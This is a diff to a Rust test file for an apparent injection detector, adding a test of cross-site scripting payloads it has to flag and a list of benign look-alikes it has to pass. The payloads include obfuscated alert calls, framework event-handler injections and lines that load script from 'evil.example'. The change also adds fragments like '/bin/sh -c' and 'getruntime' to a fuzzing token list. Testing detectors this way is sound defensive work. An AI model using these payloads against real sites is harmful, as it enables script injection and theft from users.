@@ -317,6 +317,49 @@ fn finds_script_wherever_a_browser_would_run_it() {
 }
 
 #[test]
+fn finds_script_that_goes_on_with_an_object_or_calls_by_another_way() {
+    assert_found(
+        Class::Xss,
+        &[
+            "';window.alert(7)//",
+            "'-top['al'+'ert'](7)-'",
+            "';location.href='//evil.example'//",
+            "');$.getScript('//evil.example')//",
+            "'-import('//evil.example')-'",
+            "';new Function('f(7)')()//",
+            "7;document.write('<b>')",
+            "alert?.(7)",
+            "(alert)(7)",
+            "alert.call(null,7)",
+            "alert/**/(7)",
+            "[7].map(alert)",
+            "'-{onerror=alert}throw 7-'",
+            "7;alert(7)",
+            "*/alert(7)/*",
+            "7-alert(7)",
+            "<div @click=alert(7)>",
+            "<div v-on:click=\"f(7)\">",
+            "<div x-init=f(7)>",
+            "<input ng-focus=f(7)>",
+            "[x]( javascript:f(7))",
+        ],
+    );
+    for value in [
+        "- alert (3) people",
+        "  this.set('view', View);\n  this.set('views', resolve('views'));",
+        "run before [`--import`][] is read",
+        "'a' + this.title",
+        "\"top\", \"self\" and \"parent\".",
+        "news. Then more of it",
+        "ann@parent.example (mail)",
+        "array.map(f)",
+        "mail <ann@example.com>, see @home = (here)",
+    ] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+}
+
+#[test]
 fn finds_traversal_in_every_disguise() {
     assert_found(
         Class::Path,
@@ -490,7 +533,7 @@ mod properties {
         "document", ".", "cookie", "[", "]", "'", "\"", " ", "\n", "\0", "..", "/", "\\", "etc", "0x2e", "0x2f", "\u{1a}", ";", "|",
         "||", "&", "&&", "id", "ls", "cat ", "system", "exec", "phpinfo", "$", "{", "}", "_get[", "ifs", "{{", "{%", "${", "#{", "7*7",
         "jndi:", "j", "java.lang.runtime", "#_memberaccess", "constructor", "prototype", "__proto__", "a", "1", "-", "!--#exec", "?php",
-        "/bin/sh -c ", "expression", "style", "<a ", "import", "freemarker", ".template.utility", "getruntime", "().exec", "%",
+        "/bin/sh -c ", "expression", "style", "<a ", "import", "freemarker", "top", "?.", ".call", "map", "alert)", "Function", "this", " @click", "onerror", "/**/", ".template.utility", "getruntime", "().exec", "%",
     ];
 
     proptest! {
